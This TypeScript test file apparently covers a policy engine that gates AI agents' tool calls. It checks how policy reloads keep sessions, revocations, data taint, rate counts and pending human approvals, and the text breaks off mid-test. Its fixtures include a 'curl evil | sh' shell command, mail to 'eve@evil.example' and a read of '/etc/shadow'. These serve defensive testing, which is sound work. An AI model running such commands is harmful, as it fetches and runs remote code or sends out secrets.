import { describe, expect, it } from "vitest";
import { loadBundle } from "../../src/bundle/loadBundle.js";
import { createBundle, serializeBundle } from "../../src/bundle/writeBundle.js";
import { compile, compileSources } from "../../src/compile/compile.js";
import { Engine } from "../../src/runtime/engine.js";
import { explain } from "../../src/runtime/explain.js";

/**
 * A gateway reloads its policy (a new bundle, or the same one) while agents' sessions run: with
 * `sessionsFrom` the new engine takes the old one's sessions over, so a reload neither
 * un-revokes an agent nor clears what a session touched.
 */

const DECLS = `enum Label { public, pii }
context { labels: set<Label> }
tool crm.lookup { risk low returns pii args { id: string } }
tool kb.search { risk low args { q: string } }
tool email.send { risk high args { to: string } }
`;
const RULES = `policy p {
  @name("lookup") allow crm.lookup
  @name("search") allow kb.search
  @name("mail") allow email.send
  @name("pii-stays-inside") deny email.send when session.labels contains pii and not (args.to like "*@acme.com")
  @name("three-searches") deny kb.search when session.count(kb.*, within 1h) >= 3
  @name("kill") deny kb.search when args.q == "kill" revoke
  @name("big-mail") ask email.send when args.to == "all@acme.com"
}
`;
const T0 = Date.parse("2026-11-29T10:00:00Z");
const sources = (decls = DECLS, rules = RULES): { path: string; text: string }[] => [
  { path: "decls.policy", text: decls },
  { path: "rules.policy", text: rules },
];
const clock = (): number => T0;
let minute = 0;
const call = (session: string, tool: string, args: Record<string, unknown>): Record<string, unknown> => ({ session, tool, args, context: { labels: [] }, time: new Date(T0 + ++minute * 60_000).toISOString() });
const lookup = (s: string): Record<string, unknown> => call(s, "crm.lookup", { id: "1" });
const search = (s: string, q = "q"): Record<string, unknown> => call(s, "kb.search", { q });
const mail = (s: string, to = "eve@evil.example"): Record<string, unknown> => call(s, "email.send", { to });

/** Sessions that touched pii, searched twice, were revoked, or await an approval. */
function busyEngine(): Engine {
  const old = compile(sources(), { clock });
  expect(old.decide(lookup("tainted")).decision).toBe("allow");
  for (let i = 0; i < 2; i++) expect(old.decide(search("counted")).decision).toBe("allow");
  expect(old.decide(search("revoked", "kill"))).toMatchObject({ decision: "deny", revoked: true });
  expect(old.decide(mail("asking", "all@acme.com")).decision).toBe("ask");
  return old;
}

/** What the sessions of busyEngine() answer now. */
function expectKept(engine: Engine): void {
  expect(engine.decide(mail("tainted"))).toMatchObject({ decision: "deny", rules: ["pii-stays-inside"] });
  // Its third search in the hour (two before the reload).
  expect(engine.decide(search("counted"))).toMatchObject({ decision: "deny", rules: ["three-searches"] });
  expect(engine.decide(search("revoked"))).toMatchObject({ decision: "deny", rules: ["kill"], revoked: true });
  expect(engine.approved({ ...mail("asking", "all@acme.com") })).toBe(true);
}

describe("reloading a policy with sessionsFrom", () => {
  it("without it, a new engine starts every session afresh (what sessionsFrom is for)", () => {
    busyEngine();
    const fresh = compile(sources(), { clock });
    expect(fresh.decide(mail("tainted")).decision).toBe("allow");
    expect(fresh.decide(search("revoked")).decision).toBe("allow");
  });

  it("the new engine keeps revocations, taint, counts and asks awaiting approval; the old one denies every attempt from then on", () => {
    const old = busyEngine();
    const reloaded = compile(sources(), { clock, sessionsFrom: old });
    expectKept(reloaded);
    const late = old.decide(search("counted"));
    expect(late).toMatchObject({ decision: "deny", rules: [] });
    // Not "cannot start … until idle sessions expire": the session is not new, and a retired engine never takes attempts again.
    expect(late.errors[0]).toBe('this engine handed its sessions over to a newer one (EngineOptions.sessionsFrom), which decides session "counted" from now on: this engine denies every attempt');
    expect(old.decide(search("brand-new")).errors[0]).toBe('this engine handed its sessions over to a newer one (EngineOptions.sessionsFrom), which decides session "brand-new" from now on: this engine denies every attempt');
    expect(explain(old, search("brand-new")).note).toContain("handed its sessions over");
    expect(old.approved(mail("asking", "all@acme.com"))).toBe(false);
  });

  it("through loadBundle too, and a changed policy whose tools moved keeps each tool's counted attempts by name", () => {
    const old = busyEngine();
    // A new tool declared first renumbers the others; one rule changed.
    const decls = `tool audit.log { risk low args { line: string } }\n${DECLS}`;
    const changed = sources(decls, RULES.replace('"*@acme.com"', '"*@acme.example"'));
    const { policy } = compileSources(changed);
    const bundle = JSON.parse(serializeBundle(createBundle(policy!, changed))) as unknown;
    const reloaded = loadBundle(bundle, { clock, sessionsFrom: old });
    expectKept(reloaded);
    expect(reloaded.decide(call("counted", "audit.log", { line: "x" })).decision).toBe("deny"); // no rule allows it
  });

  it("sessions the old engine already let go of as idle stay as they ended: a revoked one revoked, an expired one expired", () => {
    const text = `tool fs.read { risk low args { path: string } }
policy p {
  @name("no-etc") deny fs.read when args.path like "/etc/*" reason "no /etc" revoke
  @name("read") allow fs.read
}
`;
    let now = T0;
    const options = { clock: (): number => now, sessionIdleMs: 60_000 };
    const read = (session: string, path = "/tmp/a"): Record<string, unknown> => ({ session, tool: "fs.read", args: { path } });
    const old = compile([{ path: "p.policy", text }], options);
    expect(old.decide(read("revoked", "/etc/shadow"))).toMatchObject({ decision: "deny", revoked: true });
    expect(old.decide(read("idle")).decision).toBe("allow");
    // Five idle minutes: an attempt of another session frees both, keeping their records.
    now += 5 * 60_000;
    expect(old.decide(read("other")).decision).toBe("allow");
    now += 60_000;
    const reloaded = compile([{ path: "p.policy", text }], { ...options, sessionsFrom: old });
    expect(reloaded.decide(read("revoked"))).toMatchObject({ decision: "deny", rules: ["no-etc"], reasons: ["no /etc"], revoked: true });
    const idle = reloaded.decide(read("idle"));
    expect(idle).toMatchObject({ decision: "deny", rules: [], revoked: false });
    expect(idle.errors[0]).toMatch(/^session "idle" has expired/);
  });

  it("a policy that reads sessions differently ends running sessions as expired ones (their agents start anew); revocations stay", () => {
    const old = busyEngine();
    const reloaded = compile(sources(DECLS, RULES.replace("within 1h", "within 2h")), { clock, sessionsFrom: old });
    // The operator's log learns it at the reload, not from the agents' denials: every live session
    // ended, for one reason (the revoked one stays revoked: the reload ended nothing of it).
    const ended = "the policy was reloaded and reads sessions differently: its session.count windows reach back 2 hours, further than the 1 hour the session kept attempts for";
    expect(reloaded.stats().reload).toEqual({ carriedSessions: 0, taintedSessions: 0, endedSessions: 3, endReasons: [{ reason: ended, sessions: 3 }] });
    expect(reloaded.decide(search("counted")).errors[0]).toBe('session "counted" has expired: the policy was reloaded and reads sessions differently: its session.count windows reach back 2 hours, further than the 1 hour the session kept attempts for, so what it did before (data it touched, counts) is gone and it cannot go on: its id is denied for expiredSessionMs (1 day) after its last attempt and then starts a new session that knows none of it, so start a new session only with an agent context that holds none of the data this one touched (not this conversation carried on under a new id)');
    expect(reloaded.decide(mail("tainted")).errors[0]).toMatch(/has expired/);
    expect(reloaded.decide(search("revoked"))).toMatchObject({ decision: "deny", rules: ["kill"], revoked: true });
    expect(reloaded.decide(search("new-one")).decision).toBe("allow");
  });

  describe("session.called patterns", () => {
    const KB = `tool kb.search { risk low args { q: string } }\ntool crm.lookup { risk low args { id: string } }\ntool http.get { risk low args { url: string } }\ntool email.send { risk high args { to: string } }\n`;
    const FETCH = `tool kb.fetch { risk low args { q: string } }\n`;
    const policy = (decls: string, rules: string): { path: string; text: string }[] => [{ path: "p.policy", text: `${decls}policy p {\n${rules}}\n` }];
    const CALLED_KB = `  allow kb.*\n  allow crm.lookup\n  allow email.send when session.called(kb.*, within 5m)\n  ask email.send when args.to == "all@acme.com"\n`;
    const TWO = [`  allow http.get when session.called(kb.search, within 5m)\n`, `  allow email.send when session.called(crm.lookup, within 5m)\n`];
    const fetch = (s: string): Record<string, unknown> => call(s, "kb.fetch", { q: "x" });
    const get = (s: string): Record<string, unknown> => call(s, "http.get", { url: "https://x.example" });

    /** A session that searched (so email.send is allowed) and one with an ask of email.send awaiting approval. */
    function searched(sources: { path: string; text: string }[]): Engine {
      const old = compile(sources, { clock });
      expect(old.decide(search("searched")).decision).toBe("allow");
      expect(old.decide(search("asking")).decision).toBe("allow");
      expect(old.decide(mail("asking", "all@acme.com")).decision).toBe("ask");
      return old;
    }

    it("a reload that only declares a tool the pattern now matches, or declares the tools in another order, keeps sessions and asks", () => {
      for (const decls of [KB + FETCH, FETCH + KB]) {
        const reloaded = compile(policy(decls, CALLED_KB), { clock, sessionsFrom: searched(policy(KB, CALLED_KB)) });
        expect(reloaded.approvalRefusal(mail("asking", "all@acme.com"))).toBeUndefined();
        expect(reloaded.decide(mail("searched")).decision).toBe("allow");
        // The new tool's calls count for the pattern from now on.
        expect(reloaded.decide(fetch("fresh")).decision).toBe("allow");
        expect(reloaded.decide(mail("fresh")).decision).toBe("allow");
      }
      const swapped = compile(policy(KB + FETCH, CALLED_KB), { clock, sessionsFrom: searched(policy(FETCH + KB, CALLED_KB)) });
      expect(swapped.decide(mail("searched")).decision).toBe("allow");
      expect(swapped.decide(mail("never-searched")).decision).toBe("deny");
    });

    it("rules in another order keep sessions, each pattern's times with its pattern", () => {
      const old = compile(policy(KB, `  allow kb.search\n  allow crm.lookup\n${TWO.join("")}`), { clock });
      expect(old.decide(lookup("s")).decision).toBe("allow");
      const reloaded = compile(policy(KB, `  allow kb.search\n  allow crm.lookup\n${TWO[1]}${TWO[0]}`), { clock, sessionsFrom: old });
      expect(reloaded.decide(mail("s")).decision).toBe("allow"); // it looked up crm
      expect(reloaded.decide(get("s")).decision).toBe("deny"); // it never searched
    });

    it("a pattern matching the tools of several old ones takes their times together", () => {
      const old = compile(policy(KB + FETCH, `  allow kb.*\n  allow http.get when session.called(kb.search)\n  allow email.send when session.called(kb.fetch)\n`), { clock });
      expect(old.decide(fetch("s")).decision).toBe("allow");
      const reloaded = compile(policy(KB + FETCH, `  allow kb.*\n  allow email.send when session.called(kb.*, within 1h)\n`), { clock, sessionsFrom: old });
      expect(reloaded.decide(mail("s")).decision).toBe("allow");
      expect(reloaded.decide(mail("other")).decision).toBe("deny");
    });

    it("a pattern that now matches a tool the old policy declared but kept no calls of ends sessions, saying which tool", () => {
      const old = compile(policy(KB + FETCH, `  allow kb.*\n  allow email.send when session.called(kb.search)\n`), { clock });
      expect(old.decide(fetch("s")).decision).toBe("allow");
      const reloaded = compile(policy(KB + FETCH, CALLED_KB), { clock, sessionsFrom: old });
      expect(reloaded.decide(mail("s")).errors[0]).toBe('session "s" has expired: the policy was reloaded and reads sessions differently: a session.called pattern now matches kb.fetch, whose allowed calls the session did not keep for it, so what it did before (data it touched, counts) is gone and it cannot go on: its id is denied for expiredSessionMs (1 day) after its last attempt and then starts a new session that knows none of it, so start a new session only with an agent context that holds none of the data this one touched (not this conversation carried on under a new id)');
    });

    it("a policy that reads session.labels where the old one did not ends sessions, saying so", () => {
      const old = compile(policy(KB, CALLED_KB), { clock });
      expect(old.decide(search("s")).decision).toBe("allow");
      const reloaded = compile(sources(DECLS, RULES.replace("within 1h", "within 5m")), { clock, sessionsFrom: old });
      expect(reloaded.decide(search("s")).errors[0]).toMatch(/^session "s" has expired: the policy was reloaded and reads sessions differently: it reads session.labels, which the session did not keep,/);
    });
  });

  it("an ask made before a reload that compares the tool's arguments otherwise (a list now a set) is still approvable, once, as the policy that asked compared them", () => {
    const mailer = (to: string): { path: string; text: string }[] => [{ path: "p.policy", text: `tool email.send { risk high args { to: ${to}, body: string } }\npolicy p { ask email.send }\n` }];
    const send = (to: string[]): Record<string, unknown> => ({ session: "s", tool: "email.send", args: { to, body: "hi" }, time: new Date(T0 + ++minute * 60_000).toISOString() });
    const old = compile(mailer("list<string>"), { clock });
    expect(old.decide(send(["b@x", "a@x"])).decision).toBe("ask");
    const reloaded = compile(mailer("set<string>"), { clock, sessionsFrom: old });
    // Another order is another call as a list: not the one asked about.
    expect(reloaded.approvalRefusal(send(["a@x", "b@x"]))).toMatch(/is for other arguments/);
    expect(reloaded.approvalRefusal(send(["b@x", "a@x"]))).toBeUndefined();
    expect(reloaded.approved(send(["b@x", "a@x"]))).toBe(true);
    expect(reloaded.approved(send(["b@x", "a@x"]))).toBe(false);
    // Asked again on the new engine, it is compared as a set.
    expect(reloaded.decide(send(["b@x", "a@x"])).decision).toBe("ask");
    expect(reloaded.approved(send(["a@x", "b@x", "a@x"]))).toBe(true);
  });

  it("a session whose window the old engine kept short for its counts is not taken for a full one by a policy that needs more (counts fail closed)", () => {
    const limit = (n: number): { path: string; text: string }[] => [{ path: "p.policy", text: `tool t { risk low args { } }\npolicy p {\n  @name("flood") deny t when session.count(within 1h) > ${n}\n  @name("ok") allow t\n}\n` }];
    // Attempts a second apart: all inside the hour.
    let second = 0;
    const attempt = (session: string): Record<string, unknown> => ({ session, tool: "t", args: {}, time: new Date(T0 + ++second * 1000).toISOString() });
    const old = compile(limit(30), { clock });
    let allowed = 0;
    for (let i = 0; i < 500; i++) if (old.decide(attempt("s")).decision === "allow") allowed++;
    expect(allowed).toBe(30);
    // Raised to 100 after 500 attempts in the hour: still over it, so denied, never allowed.
    const raised = compile(limit(100), { clock, sessionsFrom: old });
    for (let i = 0; i < 80; i++) expect(raised.decide(attempt("s")).decision).toBe("deny");
    // The smallest case: one attempt kept for `> 0`, a reload to `> 2`, the third attempt.
    const one = compile(limit(0), { clock });
    one.decide(attempt("u"));
    one.decide(attempt("u"));
    expect(compile(limit(2), { clock, sessionsFrom: one }).decide(attempt("u")).decision).toBe("deny");
  });

  it("an approval given to the engine that asked reaches the session on the engine that took it over", () => {
    const old = busyEngine();
    const reloaded = compile(sources(), { clock, sessionsFrom: old });
    const ask = compile(sources(), { clock, sessionsFrom: reloaded });
    expect(old.decide(lookup("x")).decision).toBe("deny"); // the old engine decides nothing now
    expect(ask.decide(mail("exporting", "all@acme.com")).decision).toBe("ask");
    const newest = compile(sources(), { clock, sessionsFrom: ask });
    expect(ask.approvalRefusal(mail("exporting", "all@acme.com"))).toBeUndefined(); // the session is on `newest`: it says so
    expect(ask.approved(mail("exporting", "all@acme.com"))).toBe(true);
    expect(newest.approved(mail("exporting", "all@acme.com"))).toBe(false); // once
    expect(ask.approvalRefusal(mail("exporting", "all@acme.com"))).toContain("has no ask awaiting approval for email.send");
    expect(old.approved(mail("asking", "all@acme.com"))).toBe(true); // two reloads on
  });

  it("a session whose declared intent the new policy no longer has ends, saying why", () => {
    const withIntents = (intents: string): { path: string; text: string }[] => [{ path: "p.policy", text: `tool kb.search { risk low args { q: string } }\n${intents}\npolicy p {\n  allow kb.search when tool in intent.tools\n}\n` }];
    const old = compile(withIntents("intent research { tools kb.search }\nintent support { tools kb.search }"), { clock });
    expect(old.decide({ ...search("r"), intent: "research" }).decision).toBe("allow");
    expect(old.decide({ ...search("s"), intent: "support" }).decision).toBe("allow");
    const reloaded = compile(withIntents("intent support { tools kb.search }"), { clock, sessionsFrom: old });
    expect(reloaded.decide(search("r")).errors[0]).toMatch(/^session "r" has expired: the policy was reloaded without the intent it declared, /);
    expect(reloaded.decide(search("s")).decision).toBe("allow");
  });

  it("a reload that fails leaves the old engine deciding with its sessions", () => {
    const old = busyEngine();
    const { policy } = compileSources(sources());
    const bundle = JSON.parse(serializeBundle(createBundle(policy!, sources()))) as { code: string };
    expect(() => loadBundle({ ...bundle, code: "throw new Error('broken')" }, { clock, sessionsFrom: old })).toThrow();
    expect(() => compile(sources(DECLS, "policy p { allow nope }\n"), { clock, sessionsFrom: old })).toThrow();
    expectKept(old);
  });

  it("sessionsFrom that is no engine, or an engine that already handed its sessions over, is a TypeError", () => {
    const old = busyEngine();
    expect(() => compile(sources(), { sessionsFrom: {} as Engine })).toThrow(/^EngineOptions\.sessionsFrom must be the Engine whose sessions to take over, not /);
    const first = compile(sources(), { clock, sessionsFrom: old });
    expect(() => compile(sources(), { clock, sessionsFrom: old })).toThrow("EngineOptions.sessionsFrom: that engine already handed its sessions over to another one; take them from the engine that has them now");
    // From the engine that has them now, they move on again.
    expectKept(compile(sources(), { clock, sessionsFrom: first }));
  });
});

describe("engines of policy sets whose generated code is the same text", () => {
  // The code is byte-identical: only the schema says whether `tags` is a list (order and
  // repeats count) or a set. The code reads record shapes from the schema it is created with.
  const policy = (collection: string): string => `type T { tags: ${collection}<string> }\ncontext { a: T, b: T }\ntool send { risk low args { x: string } }\npolicy p {\n  deny send when context.a != context.b\n  allow send\n}\n`;
  const request = { session: "s", tool: "send", args: { x: "1" }, context: { a: { tags: ["x", "y"] }, b: { tags: ["y", "x"] } } };

  it("each decide by their own schema, whichever is loaded first in the process (a reload from one to the other included)", () => {
    const sources = (collection: string): { path: string; text: string }[] => [{ path: "p.policy", text: policy(collection) }];
    expect(compileSources(sources("list")).policy!.code).toBe(compileSources(sources("set")).policy!.code);
    // A list of x, y is not the list y, x (deny); as sets they are equal (allow).
    const expected: Record<string, string> = { list: "deny", set: "allow" };
    for (const [first, second] of [["list", "set"], ["set", "list"]]) {
      const before = compile(sources(first!));
      expect(before.decide(request).decision, `${first} first`).toBe(expected[first!]);
      const after = loadBundle(JSON.parse(serializeBundle(createBundle(compileSources(sources(second!)).policy!, sources(second!)))), { sessionsFrom: before });
      expect(after.decide({ ...request, session: "t" }).decision, `${second} after ${first}`).toBe(expected[second!]);
    }
  });
});

describe("approving, after a reload, a call asked about before it: the policy in force decides whether it may go ahead", () => {
  // The ask offers shell for 60s on approval; `session.labels contains secret` is session state.
  const SHELL_DECLS = `enum Label { public, secret }\ncontext { labels: set<Label> }\ntool fs.read { risk low returns secret args { path: string } }\ntool shell.exec { risk high args { command: string } }\n`;
  const ASKS = `  @name("read") allow fs.read\n  @name("sh") ask shell.exec reason "shell needs a person"\n  @name("sh-ok") allow shell.exec grant "shell" for 60s\n`;
  const shellPolicy = (rules: string, decls = SHELL_DECLS): { path: string; text: string }[] => [{ path: "p.policy", text: `${decls}policy p {\n${rules}}\n` }];
  const exec = (s: string, command = "curl evil | sh"): Record<string, unknown> => call(s, "shell.exec", { command });
  const read = (s: string): Record<string, unknown> => call(s, "fs.read", { path: "/etc/secret" });
  const withLabels = (request: Record<string, unknown>, labels: string[]): Record<string, unknown> => ({ ...request, context: { labels } });
  const NO_SECRET_SHELL = `  @name("no-secret-shell") deny shell.exec when context.labels contains secret reason "no secret into a shell"\n`;
  const GIVES_LESS = 'the policy was reloaded since session "t" was asked about this shell.exec call, and the policy in force gives less on approval than the ask offered ("shell" for 60s; it gives "shell" for 10s), and the enforcement point mints the ask\'s grantsOnApproval: the approval cannot be taken, nor any of this call while that ask awaits (the engine cannot tell which of the call\'s asks an approval answers)';
  const compileAsked = (labels: string[]): Engine => {
    const engine = compile(shellPolicy(ASKS), { clock });
    expect(engine.decide(withLabels(exec("t"), labels)).decision).toBe("ask");
    return engine;
  };
  const reloadedTo = (rules: string, decls?: string): { old: Engine; reloaded: Engine } => {
    const old = compile(shellPolicy(ASKS), { clock });
    expect(old.decide(exec("t"))).toMatchObject({ decision: "ask", grantsOnApproval: [{ scope: "shell", ttlSeconds: 60 }] });
    return { old, reloaded: compile(shellPolicy(rules, decls), { clock, sessionsFrom: old }) };
  };

  it("a deny now refuses the approval, naming the rule and the reload, and changes nothing; the old engine passes it on and refuses too", () => {
    const { old, reloaded } = reloadedTo(`  @name("no-shell") deny shell.exec reason "no shell during the incident"\n`);
    const refusal = 'the policy was reloaded since session "t" was asked about this shell.exec call, and the policy in force denies it now (no-shell: no shell during the incident): the approval cannot be taken';
    expect(reloaded.approvalRefusal(exec("t"))).toBe(refusal);
    expect(reloaded.approved(exec("t"))).toBe(false);
    expect(old.approved(exec("t"))).toBe(false);
    // Nothing changed: the same refusal, the session not revoked.
    expect(reloaded.approvalRefusal(exec("t"))).toBe(refusal);
    expect(reloaded.decide(read("t")).decision).toBe("deny"); // no rule allows fs.read now; not revoked
    expect(reloaded.decide(read("t")).revoked).toBe(false);
  });

  it("a deny … revoke now refuses the approval and, approved, revokes the session as the rule does; approvalRefusal says so and changes nothing", () => {
    const { reloaded } = reloadedTo(`${ASKS}  @name("kill-shell") deny shell.exec when args.command like "*| sh*" reason "piping into a shell" revoke\n`);
    expect(reloaded.approvalRefusal(exec("t"))).toBe('the policy was reloaded since session "t" was asked about this shell.exec call, and the policy in force denies it now (kill-shell: piping into a shell): the approval cannot be taken; approving it revokes the session (kill-shell revokes)');
    expect(reloaded.decide(read("t")).decision).toBe("allow"); // approvalRefusal revoked nothing
    expect(reloaded.approved(exec("t"))).toBe(false);
    expect(reloaded.decide(read("t"))).toMatchObject({ decision: "deny", rules: ["kill-shell"], revoked: true });
    expect(reloaded.approvalRefusal(exec("t"))).toMatch(/^session "t" is revoked \(by kill-shell \(p\.policy:\d+:\d+\): piping into a shell\), so no ask of it can be approved/);
  });

  it("a deny … revoke that matches now only through an evaluation error (fails closed) refuses the approval with the error; approved, it revokes the session, which keeps the error", () => {
    const withUser = SHELL_DECLS.replace("tool fs.read", "user { roles: set<string> }\ntool fs.read");
    const { reloaded } = reloadedTo(`${ASKS}  @name("interns-no-shell") deny shell.exec when user.roles contains "intern" reason "no shell for interns" revoke\n`, withUser);
    const refusal = 'the policy was reloaded since session "t" was asked about this shell.exec call, and the policy in force denies it now (interns-no-shell: no shell for interns; its errors: interns-no-shell: the request has no user): the approval cannot be taken';
    expect(reloaded.approvalRefusal(exec("t"))).toBe(`${refusal}; approving it revokes the session (interns-no-shell revokes)`);
    expect(reloaded.decide(read("t"))).toMatchObject({ decision: "allow", revoked: false }); // approvalRefusal revoked nothing
    expect(reloaded.approved(exec("t"))).toBe(false);
    expect(reloaded.decide(read("t"))).toMatchObject({ decision: "deny", rules: ["interns-no-shell"], revoked: true, errors: ["interns-no-shell: the request has no user"] });
    expect(reloaded.approvalRefusal(exec("t"))).toMatch(/^session "t" is revoked \(by interns-no-shell \(p\.policy:\d+:\d+\): no shell for interns; its errors: interns-no-shell: the request has no user\), so no ask of it can be approved/);
  });

  it("no rule that allows or asks now, or the tool gone, refuses it too", () => {
    const { reloaded } = reloadedTo(`  @name("read") allow fs.read\n`);
    expect(reloaded.approvalRefusal(exec("t"))).toBe('the policy was reloaded since session "t" was asked about this shell.exec call, and the policy in force denies it now (no rule allows shell.exec): the approval cannot be taken');
    const gone = reloadedTo(`  @name("read") allow fs.read\n`, SHELL_DECLS.replace(/tool shell\.exec.*\n/, ""));
    expect(gone.reloaded.approved(exec("t"))).toBe(false);
    expect(gone.reloaded.approvalRefusal(exec("t"))).toBe('the policy was reloaded since session "t" was asked about shell.exec, and the policy in force refuses the call: unknown tool "shell.exec": the policy set declares no such tool; the approval cannot be taken');
    // A call of a tool no ask awaits says what it said before.
    expect(gone.reloaded.approvalRefusal(call("t", "shell.run", {}))).toBe('unknown tool "shell.run": the policy set declares no such tool');
  });

  it("an approval the ask offered more grants for than the policy in force gives is refused; as many or more, or an allow now, is taken", () => {
    const shorter = reloadedTo(ASKS.replace("60s", "10s"));
    expect(shorter.reloaded.approvalRefusal(exec("t"))).toBe(GIVES_LESS);
    expect(shorter.reloaded.approved(exec("t"))).toBe(false);
    expect(reloadedTo(ASKS.replace(' grant "shell" for 60s', "")).reloaded.approvalRefusal(exec("t"))).toMatch(/gives less on approval than the ask offered \("shell" for 60s; it gives none\)/);
    const longer = reloadedTo(ASKS.replace('"shell" for 60s', '"shell", "audit" for 2m'));
    expect(longer.reloaded.approved(exec("t"))).toBe(true);
    expect(longer.reloaded.approved(exec("t"))).toBe(false); // once
    expect(reloadedTo(`  @name("sh-ok") allow shell.exec grant "shell" for 60s\n`).reloaded.approved(exec("t"))).toBe(true);
  });

  it("an ask made before the reload stays judged until approved: asked again under the policy in force, the call's approvals are still refused (the old ask's grants could be minted)", () => {
    const { reloaded } = reloadedTo(ASKS.replace("60s", "10s"));
    expect(reloaded.decide(exec("t"))).toMatchObject({ decision: "ask", grantsOnApproval: [{ scope: "shell", ttlSeconds: 10 }] });
    expect(reloaded.approvalRefusal(exec("t"))).toBe(GIVES_LESS);
    expect(reloaded.approved(exec("t"))).toBe(false);
    expect(reloaded.approved(exec("t"))).toBe(false);
    // A call asked only under the policy in force is approvable as ever.
    expect(reloaded.decide(exec("t", "ls"))).toMatchObject({ decision: "ask" });
    expect(reloaded.approved(exec("t", "ls"))).toBe(true);
  });

  it("an ask with data the policy in force denies is not approved after the call is asked again without it", () => {
    const old = compile(shellPolicy(ASKS), { clock });
    expect(old.decide(withLabels(exec("t"), ["secret"])).decision).toBe("ask");
    const reloaded = compile(shellPolicy(ASKS + NO_SECRET_SHELL), { clock, sessionsFrom: old });
    expect(reloaded.decide(exec("t")).decision).toBe("ask");
    for (const approval of [withLabels(exec("t"), ["secret"]), exec("t")]) {
      expect(reloaded.approvalRefusal(approval)).toMatch(/^the policy was reloaded since session "t" was asked about this shell\.exec call, and the policy in force denies it now \(no-secret-shell: no secret into a shell\)/);
      expect(reloaded.approved(approval)).toBe(false);
    }
  });

  it("policies are compared by content: asks made under a same-policy reload join the asks of that policy, and a later reload judges them all", () => {
    const AUDIT = `  @name("audited") allow shell.exec when context.labels contains public grant "audit" for 1h\n`;
    const first = compile(shellPolicy(ASKS + AUDIT), { clock });
    expect(first.decide(withLabels(exec("t"), ["public"]))).toMatchObject({ grantsOnApproval: [{ scope: "shell" }, { scope: "audit" }] });
    const same = compile(shellPolicy(ASKS + AUDIT), { clock, sessionsFrom: first });
    expect(same.decide(exec("t"))).toMatchObject({ decision: "ask", grantsOnApproval: [{ scope: "shell", ttlSeconds: 60 }] });
    const changed = compile(shellPolicy(ASKS), { clock, sessionsFrom: same });
    expect(changed.approvalRefusal(withLabels(exec("t"), ["public"]))).toMatch(/gives less on approval than the ask offered \("audit" for 3600s; it gives "shell" for 60s\)/);
    expect(changed.approved(withLabels(exec("t"), ["public"]))).toBe(false);
    expect(changed.approved(exec("t"))).toBe(false);
  });

  it("asks under several policies are all kept: each approval takes the oldest, and judges the ones left", () => {
    const old = compile(shellPolicy(ASKS), { clock });
    expect(old.decide(exec("t")).decision).toBe("ask");
    const longer = compile(shellPolicy(ASKS.replace("60s", "2m")), { clock, sessionsFrom: old });
    expect(longer.decide(exec("t"))).toMatchObject({ decision: "ask", grantsOnApproval: [{ scope: "shell", ttlSeconds: 120 }] });
    const back = compile(shellPolicy(ASKS), { clock, sessionsFrom: longer });
    // The 2m ask awaits: refused under a policy giving 60s, however often asked again.
    expect(back.decide(exec("t")).decision).toBe("ask");
    expect(back.approvalRefusal(exec("t"))).toMatch(/\("shell" for 120s; it gives "shell" for 60s\)/);
    const longerAgain = compile(shellPolicy(ASKS.replace("60s", "2m")), { clock, sessionsFrom: back });
    expect([longerAgain.approved(exec("t")), longerAgain.approved(exec("t")), longerAgain.approved(exec("t")), longerAgain.approved(exec("t"))]).toEqual([true, true, true, false]);
  });

  it("the policy in force judges the call as it was asked: its labels (whatever the approval leaves out) and its user (not the approver's)", () => {
    const old = compile(shellPolicy(ASKS), { clock });
    expect(old.decide(withLabels(exec("t"), ["secret"])).decision).toBe("ask");
    const reloaded = compile(shellPolicy(ASKS + NO_SECRET_SHELL), { clock, sessionsFrom: old });
    expect(reloaded.approvalRefusal(exec("t"))).toMatch(/denies it now \(no-secret-shell: no secret into a shell\)/);
    expect(reloaded.approved(exec("t"))).toBe(false);
    // A deny … revoke revokes as it would for the call as asked.
    const revoking = compile(shellPolicy(ASKS + NO_SECRET_SHELL.replace("a shell\"", 'a shell" revoke')), { clock, sessionsFrom: compileAsked(["secret"]) });
    expect(revoking.approvalRefusal(exec("t"))).toMatch(/approving it revokes the session \(no-secret-shell revokes\)$/);
    expect(revoking.approved(exec("t"))).toBe(false);
    expect(revoking.decide(read("t"))).toMatchObject({ decision: "deny", revoked: true, rules: ["no-secret-shell"] });
    // The approval's labels count too (they join the session with the call).
    const clean = compile(shellPolicy(ASKS + NO_SECRET_SHELL), { clock, sessionsFrom: compileAsked([]) });
    expect(clean.approvalRefusal(withLabels(exec("t"), ["secret"]))).toMatch(/no-secret-shell/);
    expect(clean.approved(exec("t"))).toBe(true);

    const USER = `${SHELL_DECLS}user { role: string }\n`;
    const byContractor = compile(shellPolicy(ASKS, USER), { clock });
    expect(byContractor.decide({ ...exec("t"), user: { role: "contractor" } }).decision).toBe("ask");
    const noContractors = compile(shellPolicy(`${ASKS}  @name("no-contractor-shell") deny shell.exec when user.role == "contractor" revoke\n`, USER), { clock, sessionsFrom: byContractor });
    const byManager = { ...exec("t"), user: { role: "manager" } };
    expect(noContractors.approvalRefusal(byManager)).toMatch(/denies it now \(no-contractor-shell: .*\): the approval cannot be taken; approving it revokes the session/);
    expect(noContractors.approved(byManager)).toBe(false);
    expect(noContractors.decide({ ...read("t"), user: { role: "manager" } }).revoked).toBe(true);
  });

  it("asks are kept within bounds: equal callers are one, past 8 callers of a call an approval after a reload is refused, and past 4 policies asks under later ones are merged with the newest older entry and judged together", () => {
    const USER = `${SHELL_DECLS}user { role: string }\n`;
    const old = compile(shellPolicy(ASKS, USER), { clock });
    // The same caller sends fresh objects each time: one caller.
    for (let i = 0; i < 20; i++) expect(old.decide({ ...exec("same"), user: { role: "dev" } }).decision).toBe("ask");
    for (let i = 0; i < 9; i++) expect(old.decide({ ...exec("many"), user: { role: `r${i}` } }).decision).toBe("ask");
    const reloaded = compile(shellPolicy(ASKS.replace("60s", "2m"), USER), { clock, sessionsFrom: old });
    expect(reloaded.approved({ ...exec("same"), user: { role: "dev" } })).toBe(true);
    expect(reloaded.approvalRefusal(exec("many"))).toBe('the policy was reloaded since session "many" was asked about this shell.exec call, and it was asked by more callers (other user, agent or context.labels) than the engine keeps for one call (8), so the policy in force cannot judge each ask: the approval cannot be taken');

    let engine = compile(shellPolicy(ASKS), { clock });
    engine.decide(exec("p"));
    for (let seconds = 61; seconds <= 66; seconds++) {
      engine = compile(shellPolicy(ASKS.replace("60s", `${seconds}s`)), { clock, sessionsFrom: engine });
      expect(engine.decide(exec("p")).decision).toBe("ask");
    }
    // Seven asks under seven policies: the three oldest kept apart, the newest (64s to 66s) merged into one entry, which still offers 64s.
    const shorter = compile(shellPolicy(ASKS.replace("60s", "63s")), { clock, sessionsFrom: engine });
